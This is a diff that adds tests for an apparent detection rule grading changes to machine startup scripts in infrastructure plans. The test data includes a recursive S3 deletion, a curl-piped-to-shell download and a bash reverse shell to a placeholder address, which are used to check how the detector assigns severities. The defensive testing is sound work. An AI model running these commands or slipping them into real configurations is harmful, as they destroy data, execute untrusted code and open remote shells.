@@ -94,3 +94,20 @@ test.each<[string, ResourceChange]>([
 ])('stays quiet: %s', (_what, change) => {
   expect(findingsOf(RULE, change)).toEqual([]);
 });
+
+test('the worst of several is told, and what another command of the same kind does is no news', () => {
+  const run = (...lines: readonly string[]) => ({ user_data: lines.join('\n') });
+  const turned = (from: readonly string[], to: readonly string[]) =>
+    severitiesOf(RULE, update('acme_machine', run(...from), run(...to)));
+  const [removal, fetched] = ['aws s3 rm s3://records --recursive', 'curl https://get.example.net/1.sh | sh'];
+  expect(turned(['date'], [fetched, removal])).toEqual([0.4]);
+  expect(turned(['date'], [removal, fetched])).toEqual([0.4]);
+  expect(turned([removal], [removal, fetched])).toEqual([0.3]);
+  expect(turned([fetched], [fetched, removal])).toEqual([0.4]);
+  expect(turned([SHELL], ['bash -i >& /dev/tcp/203.0.113.10/4445 0>&1 &'])).toEqual([]);
+});
+
+test('what stays as it is runs nothing new, whatever else changes', () => {
+  expect(severitiesOf(RULE, update('acme_machine', { user_data: SHELL, size: 1 }, { user_data: SHELL, size: 2 }))).toEqual([]);
+  expect(severitiesOf(RULE, update('acme_machine', { tags: { user_data: 'a' } }, { tags: { user_data: SHELL } }))).toEqual([]);
+});
